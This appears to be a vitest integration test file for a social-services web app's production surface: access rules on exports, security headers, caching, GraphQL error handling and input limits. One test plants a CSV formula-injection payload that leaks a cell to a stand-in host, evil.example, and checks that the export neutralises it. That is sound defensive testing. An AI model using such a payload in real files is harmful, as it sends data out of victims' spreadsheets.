import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AccessRole, CSRF_HEADER } from '@peksos/access';
import { testDatabaseKind } from '@peksos/db/testing';
import { TEST_PASSWORD, startTestServer, type TestServer } from './testing/test-server.js';

/** A built console as Vite writes it: index.html, and bundles under assets/ with a hash in their names. */
function consoleBuild(): { dir: string; script: string; scriptText: string } {
  const dir = mkdtempSync(join(tmpdir(), 'peksos-console-'));
  mkdirSync(join(dir, 'assets'));
  const script = '/assets/index-4f9a2c1b.js';
  // About 200 KB of JavaScript, compressible as real bundles are.
  const scriptText = Array.from({ length: 4000 }, (_, index) => `export function f${index}(value) { return value * ${index}; }\n`).join('');
  writeFileSync(join(dir, script), scriptText);
  writeFileSync(join(dir, 'index.html'), `<!doctype html><html><head><script type="module" src="${script}"></script></head><body><div id="root"></div></body></html>`);
  // The GraphQL explorer's page (apps/console/explorer.html), served at /graphql to browsers.
  writeFileSync(join(dir, 'explorer.html'), '<!doctype html><html><head><title>GraphQL explorer</title><script type="module" src="/assets/explorer-1a2b3c4d.js"></script></head><body><div id="explorer"></div></body></html>');
  return { dir, script, scriptText };
}

/** A raw HTTP GET (no automatic decompression): the status, headers and the bytes as sent. */
function rawGet(url: string, headers: Record<string, string> = {}): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; bytes: number }> {
  return new Promise((resolve, reject) => {
    const request = httpRequest(url, { headers }, (response) => {
      let bytes = 0;
      response.on('data', (chunk: Buffer) => (bytes += chunk.length));
      response.on('end', () => resolve({ status: response.statusCode!, headers: response.headers, bytes }));
      response.on('error', reject);
    });
    request.on('error', reject);
    request.end();
  });
}

const JSON_HEADERS = { 'content-type': 'application/json' };
/** What Apollo Client (the console) sends: the GraphQL-over-HTTP media type first. */
const MODERN_ACCEPT = 'application/graphql-response+json, application/json;q=0.9';

describe(`the web surface in production (${testDatabaseKind()})`, () => {
  let server: TestServer;
  let build: ReturnType<typeof consoleBuild>;

  beforeAll(async () => {
    build = consoleBuild();
    server = await startTestServer({ production: true, access: { secureCookies: true }, consoleDir: build.dir });
  });
  afterAll(async () => {
    await server?.close();
    if (build) rmSync(build.dir, { recursive: true, force: true });
  });

  const post = (body: unknown, headers: Record<string, string> = {}) =>
    fetch(server.graphqlUrl, { method: 'POST', headers: { ...JSON_HEADERS, ...headers }, body: typeof body === 'string' ? body : JSON.stringify(body) });

  it('serves the cases and professional roles as CSV and XLSX from the server, formula cells neutralised, for staff only (item 1)', async () => {
    const [someCase] = await server.systemSql<{ id: string; organisation_id: string }[]>(
      `SELECT c.id, c.organisation_id FROM social_case c WHERE c.status = 'OPEN' ORDER BY c.reference LIMIT 1`,
    );
    const [organisation] = await server.systemSql<{ name: string }[]>('SELECT name FROM organisation WHERE id = $1', [someCase!.organisation_id]);
    const formula = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
    await server.systemSql('UPDATE organisation SET name = $2 WHERE id = $1', [someCase!.organisation_id, formula]);
    try {
      const response = await server.fetch('/api/export/cases.csv?status=OPEN');
      expect(response.status).toBe(200);
      expect(response.headers.get('content-disposition')).toMatch(/filename="peksos-cases-\d{4}-\d{2}-\d{2}\.csv"/);
      const text = await response.text();
      const lines = text.replace(/^\uFEFF/, '').trim().split(/\r\n/);
      expect(lines[0]).toBe('Nomor kasus,Status,Kategori PMKS,Organisasi,Dibuka,Ditutup,Keterlibatan Peksos');
      const open = await server.query<{ cases: { totalCount: number } }>('{ cases(filter: { status: OPEN }) { totalCount } }');
      expect(lines).toHaveLength(open.cases.totalCount + 1);
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&B2,""x"")"`);
      expect(text).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
      const english = await (await server.fetch('/api/export/cases.csv?lang=en')).text();
      expect(english).toContain('Reference,Status,PMKS category,Organisation');
      const xlsx = await server.fetch('/api/export/cases.xlsx');
      expect(xlsx.headers.get('content-type')).toContain('spreadsheetml');
    } finally {
      await server.systemSql('UPDATE organisation SET name = $2 WHERE id = $1', [someCase!.organisation_id, organisation!.name]);
    }

    const roles = await server.fetch('/api/export/professional-roles.csv');
    expect(roles.status).toBe(200);
    const roleLines = (await roles.text()).trim().split(/\r\n/);
    expect(roleLines).toHaveLength(8);
    expect((await (await server.fetch('/api/export/professional-roles.csv?search=pendidik')).text()).trim().split(/\r\n/)).toHaveLength(2);

    // A bad filter is refused before any byte, naming it; staff only.
    const bad = await server.fetch('/api/export/cases.csv?status=SHUT');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ error: { code: 'BAD_USER_INPUT', field: 'status' } });
    expect((await fetch(`${server.url}/api/export/cases.csv`)).status).toBe(401);
    const [anyOrganisation] = await server.systemSql<{ id: string }[]>('SELECT id FROM organisation LIMIT 1');
    const partner = await server.partner([anyOrganisation!.id]);
    expect((await partner.fetch('/api/export/cases.csv')).status).toBe(403);
    const viewer = await server.signedInAs(AccessRole.VIEWER);
    expect((await viewer.fetch('/api/export/professional-roles.csv')).status).toBe(200);
  });

  it('holds every file route to the transfer module\'s rule, however the path is spelt (issue 16, item 7)', async () => {
    // Express matches routes ignoring case and decodes parameters: a rule must be applied where the route matches.
    const viewer = await server.signedInAs(AccessRole.VIEWER);
    for (const path of ['/api/export/workers.csv', '/api/export/workers%2Ecsv', '/API/EXPORT/workers.csv', '/api/export/assignments%2Ecsv']) {
      const response = await viewer.fetch(path);
      expect(response.status, `${path} as a viewer`).toBe(403);
    }
    for (const path of ['/API/export/organisations.csv', '/Report/workforce-summary?areaCode=32.77', '/API/templates/workers.csv']) {
      expect((await fetch(`${server.url}${path}`)).status, `${path} anonymously`).toBe(401);
    }
    const upload = await viewer.fetch('/API/Import/workers', { method: 'POST', headers: { 'content-type': 'text/csv' }, body: 'NIK\n' });
    expect(upload.status).toBe(403);
    expect((await viewer.fetch('/api/export/coverage-gaps.csv?areaCode=32.77')).status).toBe(200);
  });

  it('sends the security headers on the console, the API, the printable report and downloads (item 2)', async () => {
    const answers = {
      console: await fetch(`${server.url}/`),
      consolePage: await fetch(`${server.url}/workers/123`),
      script: await fetch(`${server.url}${build.script}`),
      api: await post({ query: '{ __typename }' }),
      report: await server.fetch('/report/workforce-summary?areaCode=32.77'),
      export: await server.fetch('/api/export/organisations.csv'),
      template: await server.fetch('/api/templates/workers.xlsx'),
      refusal: await fetch(`${server.url}/api/export/organisations.csv`),
    };
    for (const [name, response] of Object.entries(answers)) {
      const csp = response.headers.get('content-security-policy') ?? '';
      expect({ name, csp }).toMatchObject({ name, csp: expect.stringContaining("script-src 'self'") });
      expect(csp, name).toContain("frame-ancestors 'none'");
      expect(csp, name).toContain("default-src 'self'");
      expect(csp, name).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
      expect(response.headers.get('x-content-type-options'), name).toBe('nosniff');
      expect(response.headers.get('x-frame-options'), name).toBe('DENY');
      expect(response.headers.get('referrer-policy'), name).toBe('no-referrer');
      expect(response.headers.get('strict-transport-security'), name).toBe('max-age=31536000; includeSubDomains');
    }
    expect(answers.report.status).toBe(200);
    // The report's print button has no inline handler (the policy forbids them): its script comes from the server.
    const report = await answers.report.text();
    expect(report).not.toMatch(/\son[a-z]+=/i);
    expect(report).toContain('<script src="/report/print.js"></script>');
    const print = await server.fetch('/report/print.js');
    expect(print.status).toBe(200);
    expect(print.headers.get('content-type')).toContain('javascript');
  });

  it('compresses answers, caches hashed assets a year as immutable and index.html never (item 3)', async () => {
    const compressed = await rawGet(`${server.url}${build.script}`, { 'accept-encoding': 'gzip, deflate, br' });
    expect(compressed.status).toBe(200);
    expect(compressed.headers['content-encoding']).toMatch(/^(gzip|br)$/);
    expect(compressed.bytes).toBeLessThan(build.scriptText.length / 5);
    expect(compressed.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    const plain = await rawGet(`${server.url}${build.script}`);
    expect(plain.headers['content-encoding']).toBeUndefined();
    expect(plain.bytes).toBe(build.scriptText.length);

    for (const page of ['/', '/index.html', '/workers', '/cases/abc?status=OPEN']) {
      const response = await rawGet(`${server.url}${page}`, { 'accept-encoding': 'gzip' });
      expect({ page, status: response.status, cacheControl: response.headers['cache-control'] }).toEqual({
        page,
        status: 200,
        cacheControl: 'no-store',
      });
    }
    // A bundle that is not there is a 404, not the page (a stale page must not run HTML as its script).
    expect((await fetch(`${server.url}/assets/index-00000000.js`)).status).toBe(404);

    // GraphQL answers and CSV exports are compressed too.
    const { cookie } = server.credentials as { cookie: string };
    const exported = await rawGet(`${server.url}/api/export/organisations.csv`, { cookie, 'accept-encoding': 'gzip' });
    expect(exported.headers['content-encoding']).toBe('gzip');
    const graphql = await fetch(server.graphqlUrl, {
      method: 'POST',
      headers: { ...JSON_HEADERS, cookie, [CSRF_HEADER]: '1', 'accept-encoding': 'gzip' },
      body: JSON.stringify({ query: '{ organisations(first: 100) { nodes { id name code } } }' }),
    });
    expect(graphql.headers.get('content-encoding')).toBe('gzip');
  });

  it('serves the GraphQL explorer at /graphql to a browser only, under the same policy; other GETs stay GraphQL over HTTP (issue 18, item 10)', async () => {
    const browserAccept = 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8';
    const page = await fetch(server.graphqlUrl, { headers: { accept: browserAccept } });
    expect(page.status).toBe(200);
    expect(page.headers.get('content-type')).toContain('text/html');
    expect(page.headers.get('cache-control')).toBe('no-store');
    expect(page.headers.get('vary')).toMatch(/accept/i);
    const csp = page.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
    const html = await page.text();
    expect(html).toContain('GraphQL explorer');
    // No inline script: every <script> names a file of this origin.
    for (const tag of html.match(/<script[^>]*>/g) ?? []) expect(tag).toMatch(/src="\/assets\//);
    // With a query in the address too: the browser still gets the page (GraphiQL's convention).
    expect((await fetch(`${server.graphqlUrl}?query=${encodeURIComponent('{ __typename }')}`, { headers: { accept: browserAccept } })).headers.get('content-type')).toContain('text/html');

    // Non-browser GETs are GraphQL over HTTP as before: JSON, whatever they accept.
    for (const accept of [MODERN_ACCEPT, 'application/json', '*/*', 'application/json, text/html;q=0.5']) {
      const answer = await fetch(`${server.graphqlUrl}?query=${encodeURIComponent('{ __typename }')}`, { headers: { accept, 'apollo-require-preflight': '1' } });
      expect({ accept, type: answer.headers.get('content-type') }).toEqual({ accept, type: expect.stringMatching(/json/) });
      expect(await answer.json(), accept).toMatchObject({ data: { __typename: 'Query' } });
    }
    // A POST is never the page, whatever it accepts.
    const posted = await post({ query: '{ __typename }' }, { accept: browserAccept });
    expect(posted.headers.get('content-type')).toContain('json');
  });

  it('clears an invalid session cookie with HttpOnly, Secure and SameSite=Strict (item 4)', async () => {
    const response = await post({ query: '{ __typename }' }, { cookie: 'peksos_session=not-a-session' });
    const cleared = response.headers.getSetCookie().find((cookie) => cookie.startsWith('peksos_session='));
    expect(cleared).toBeDefined();
    expect(cleared).toMatch(/Expires=Thu, 01 Jan 1970/);
    expect(cleared).toMatch(/; HttpOnly/);
    expect(cleared).toMatch(/; Secure/);
    expect(cleared).toMatch(/; SameSite=Strict/);
    expect(cleared).toMatch(/; Path=\//);
  });

  it('answers syntax errors and the token limit 400 GRAPHQL_PARSE_FAILED, query limits 400, and refuses introspection 403 (item 11)', async () => {
    const cases = [
      { query: '{ workers {', code: 'GRAPHQL_PARSE_FAILED' },
      { query: `{ ${'__typename '.repeat(3_100)} }`, code: 'GRAPHQL_PARSE_FAILED' },
      { query: `{ ${Array.from({ length: 25 }, (_, index) => `a${index}: pmksCategories { code }`).join(' ')} }`, code: 'GRAPHQL_VALIDATION_FAILED' },
      { query: '{ areas { nodes { children { children { children { children { children { children { children { children { children { code } } } } } } } } } } } }', code: 'GRAPHQL_VALIDATION_FAILED' },
    ];
    for (const { query, code } of cases) {
      const modern = await post({ query }, { accept: MODERN_ACCEPT });
      const body = (await modern.json()) as { errors: { extensions: { code: string } }[]; data?: unknown };
      expect(body.errors, query.slice(0, 40)).toBeDefined();
      expect({ status: modern.status, code: body.errors[0]!.extensions.code }).toEqual({ status: 400, code });
      expect(body).not.toHaveProperty('data');
      // Legacy application/json clients get 200 with the same errors, as GraphQL over HTTP says; never 500.
      const legacy = await post({ query }, { accept: 'application/json' });
      expect(legacy.status).toBe(200);
      expect(((await legacy.json()) as typeof body).errors[0]!.extensions.code).toBe(code);
    }

    // Partners and anonymous callers may not introspect in production: a refusal of access, 403, not a server fault.
    const introspection = await post({ query: '{ __schema { queryType { name } } }' }, { accept: MODERN_ACCEPT });
    expect(introspection.status).toBe(403);
    expect(((await introspection.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe('FORBIDDEN');
    const [organisation] = await server.systemSql<{ id: string }[]>('SELECT id FROM organisation LIMIT 1');
    const partner = await server.partner([organisation!.id]);
    const asPartner = await fetch(server.graphqlUrl, {
      method: 'POST',
      headers: { ...JSON_HEADERS, authorization: `Bearer ${partner.key}` },
      body: JSON.stringify({ query: '{ __type(name: "Worker") { name } }' }),
    });
    expect(asPartner.status).toBe(403);
  });

  it('answers malformed JSON 400 and oversized bodies 413 as JSON with extensions.code, never HTML (item 12)', async () => {
    const malformed = await post('{"query": "{ __typename }"');
    expect(malformed.status).toBe(400);
    expect(malformed.headers.get('content-type')).toContain('application/json');
    expect(await malformed.json()).toEqual({ errors: [{ message: 'The request body is not valid JSON', extensions: { code: 'BAD_REQUEST' } }] });

    const oversized = await post({ query: '{ __typename }', variables: { padding: 'x'.repeat(1_100_000) } });
    expect(oversized.status).toBe(413);
    expect(oversized.headers.get('content-type')).toContain('application/json');
    expect(((await oversized.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe('PAYLOAD_TOO_LARGE');

    // Addresses nothing serves: JSON too, in each route's shape.
    const missing = await fetch(`${server.url}/graphql/nothing`, { method: 'POST', headers: JSON_HEADERS, body: '{}' });
    expect(missing.headers.get('content-type')).toContain('application/json');
    const missingFile = await fetch(`${server.url}/api/nothing`);
    expect(missingFile.status).toBe(404);
    expect(await missingFile.json()).toMatchObject({ error: { code: 'NOT_FOUND' } });
    for (const response of [malformed, oversized, missing, missingFile]) {
      expect(response.headers.get('content-type')).not.toContain('html');
    }
  });

  it('answers UNAUTHENTICATED one way: 401, WWW-Authenticate: Bearer, GraphQL errors (item 13)', async () => {
    const badKey = await post({ query: '{ workers { nodes { id } } }' }, { authorization: 'Bearer not-a-key' });
    const anonymous = await post({ query: '{ workers { nodes { id } } }' }, { accept: MODERN_ACCEPT });
    const endedSession = await post({ query: '{ workers { nodes { id } } }' }, { cookie: 'peksos_session=ended', [CSRF_HEADER]: '1' });
    const wrongPassword = await post({
      query: 'mutation ($username: String!, $password: String!) { signIn(username: $username, password: $password) { expiresAt } }',
      variables: { username: server.username, password: `${TEST_PASSWORD}-wrong` },
    });
    const file = await fetch(`${server.url}/api/export/workers.csv`);
    for (const [name, response] of Object.entries({ badKey, anonymous, endedSession, wrongPassword })) {
      expect({ name, status: response.status }).toEqual({ name, status: 401 });
      expect(response.headers.get('www-authenticate'), name).toBe('Bearer realm="peksos"');
      const body = (await response.json()) as { errors: { message: string; extensions: { code: string } }[] };
      expect(body.errors[0]!.extensions.code, name).toBe('UNAUTHENTICATED');
      expect(typeof body.errors[0]!.message, name).toBe('string');
    }
    expect(file.status).toBe(401);
    expect(file.headers.get('www-authenticate')).toBe('Bearer realm="peksos"');
  });

  it('gives no "Did you mean" suggestions to anyone, also for variable values (item 14)', async () => {
    const { cookie } = server.credentials as { cookie: string };
    const questions = [
      { query: 'query ($s: CaseStatus) { cases(filter: { status: $s }) { nodes { id } } }', variables: { s: 'OPN' } },
      { query: 'query ($k: [OrganisationKind!]) { organisations(filter: { kinds: $k }) { nodes { id } } }', variables: { k: ['LK'] } },
      { query: '{ workerz { nodes { id } } }' },
      { query: '{ workers(fliter: {}) { nodes { id } } }' },
      { query: '{ cases(filter: { status: OPN }) { nodes { id } } }' },
      { query: 'query ($f: WorkerFilterr) { workers(filter: $f) { nodes { id } } }' },
    ];
    for (const headers of [{}, { cookie, [CSRF_HEADER]: '1' }] as Record<string, string>[]) {
      for (const question of questions) {
        const text = await (await post(question, headers)).text();
        expect(text).toContain('"errors"');
        expect(text).not.toMatch(/did you mean/i);
      }
    }
  });

  it('refuses a 70,000-item list argument with BAD_USER_INPUT naming it, before PostgreSQL (item 15)', async () => {
    const { cookie } = server.credentials as { cookie: string };
    const asAdmin = { cookie, [CSRF_HEADER]: '1' };
    const kinds = await post(
      { query: 'query ($k: [OrganisationKind!]) { organisations(filter: { kinds: $k }) { nodes { id } } }', variables: { k: Array(70_000).fill('LK3') } },
      asAdmin,
    );
    const body = (await kinds.json()) as { errors: { extensions: { code: string; field: string } }[]; extensions: { sqlStatements: number } };
    expect(body.errors[0]!.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'filter.kinds' });
    expect(body.extensions.sqlStatements).toBe(0);

    const ids = await post(
      { query: 'mutation ($ids: [ID!]!) { createApiKey(name: "Many", organisationIds: $ids) { secret } }', variables: { ids: Array.from({ length: 70_000 }, (_, index) => String(index)) } },
      asAdmin,
    );
    const idsBody = (await ids.json()) as typeof body;
    expect(ids.status).not.toBe(500);
    expect(idsBody.errors[0]!.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'organisationIds' });
    expect(idsBody.extensions.sqlStatements).toBe(0);

    // A list within the bound still works.
    const few = await post({ query: '{ organisations(filter: { kinds: [LK3, PKH_UNIT] }) { nodes { id } } }' }, asAdmin);
    expect(((await few.json()) as { errors?: unknown }).errors).toBeUndefined();
  });
});
